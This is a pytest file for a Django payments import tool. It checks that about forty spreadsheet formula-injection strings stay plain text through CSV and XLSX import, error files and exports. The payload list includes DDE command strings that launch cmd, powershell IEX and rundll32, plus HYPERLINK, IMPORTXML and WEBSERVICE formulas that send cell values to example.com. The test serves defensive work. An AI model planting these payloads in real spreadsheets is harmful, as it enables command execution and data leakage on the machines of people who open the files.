"""Texts that spreadsheets take for formulas: through an import, out by every export, and back, they stay texts."""

import csv
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cabinet_pages.payments.models import Payment
from imports.formats.annotated_text import is_formula
from imports.models import ImportBatch
from tests.cabinet_pages.staff.world import StaffWorld, make_world
from tests.imports.conftest import csv_bytes

CREATE = reverse("imports_importbatch_modeladmin_create")
PAYMENTS = reverse("cabinet_pages_payment_modeladmin_index")
HEADING = [
    "Особовий рахунок",
    "Документ",
    "Дата платежу",
    "Сума платежу",
    "Стаття реалізації",
    "Платник",
    "Призначення",
]
PAYLOADS = [
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX'!A1", '=HYPERLINK("http://example.com","тут")',
    '=HYPERLINK("http://example.com?x="&A1&A2,"x")', '=IMPORTXML(CONCAT("http://example.com?v=",A1),"//a")',
    '=WEBSERVICE("http://example.com")', '=IMAGE("http://example.com")', "=SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=A1", "=-1", "==1", "=@SUM(A1)",
    "+1+1", "+cmd|' /C calc'!A0", "+A1", '+HYPERLINK("http://example.com")', "+380 67 123 45 67", "+(1)",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", '-HYPERLINK("http://example.com")', "-(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@cmd", "@іваненко", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1",
    "\u00a0=1+1", "=1+1;=2+2", '="а" & "б"', "=1+1\u200b", "=ТОВ «Приклад»",
]  # fmt: skip


@pytest.fixture
def world(db: Any) -> StaffWorld:
    return make_world()


@pytest.fixture
def client(world: StaffWorld) -> Client:
    client = Client()
    client.force_login(world.vin.operator)
    return client


def rows_with(payloads: list[str]) -> list[list[str]]:
    rows = [
        ["80-431930", f"D{number}", "08.01.2026", "1,00", "Пеня", text, text] for number, text in enumerate(payloads)
    ]
    return [HEADING, *rows, ["80-431930", "X", "=1+1", "-2,00", "Пеня", "=1+1", "@A1"]]


def as_xlsx(rows: list[list[str]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for line in sheet.iter_rows():
        for cell in line:
            cell.data_type = "s"
    output = BytesIO()
    workbook.save(output)
    return output.getvalue()


def give(client: Client, content: bytes, name: str) -> ImportBatch:
    data = {"kind": "payments", "branch": "VIN", "file": SimpleUploadedFile(name, content)}
    assert client.post(CREATE, data).status_code == 302
    batch = ImportBatch.objects.first()
    assert batch is not None
    return batch


def url_of(action: str, batch: ImportBatch) -> str:
    return reverse(f"imports_importbatch_modeladmin_{action}", args=[batch.pk])


def download(client: Client, url: str) -> bytes:
    answer: Any = client.get(url)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(StringIO(text, newline=""), delimiter=";") for cell in row]


def no_formula_in(content: bytes, name: str) -> bool:
    if name == "xlsx":
        sheets = load_workbook(BytesIO(content)).worksheets
        return not any(cell.data_type == "f" for sheet in sheets for row in sheet.iter_rows() for cell in row)
    return not any(map(is_formula, csv_cells(content)))


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == 40
    assert all(map(is_formula, PAYLOADS))


@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_no_export_types_a_formula_and_every_text_comes_back_as_it_was(name: str, client: Client) -> None:
    rows = rows_with(PAYLOADS)
    content = csv_bytes(rows, "utf-8") if name == "csv" else as_xlsx(rows)
    batch = give(client, content, f"=cmd.{name}")
    assert (batch.new, batch.rejected) == (40, 1)
    errors = download(client, url_of("errors", batch))
    assert no_formula_in(errors, name)
    assert no_formula_in(download(client, url_of("issues", batch)), "csv")
    client.post(url_of("inspect", batch), {"action": "apply", "accept_rejected": "on"})
    stored = dict(Payment.objects.filter(document__startswith="D").values_list("document", "payer"))
    told = {f"D{number}": " ".join(text.replace("\u200b", "").split()) for number, text in enumerate(PAYLOADS)}
    assert {document: payer for document, payer in stored.items() if document in told} == told
    # The error file and its rows, given back, change nothing.
    again = give(client, errors, f"again.{name}")
    assert (again.new, again.changed, again.unchanged, again.rejected) == (0, 0, 40, 1)
    for export in ("csv", "xlsx"):
        lists = (PAYMENTS, reverse("imports_importbatch_modeladmin_index"))
        assert all(no_formula_in(download(client, f"{url}?export={export}"), export) for url in lists)
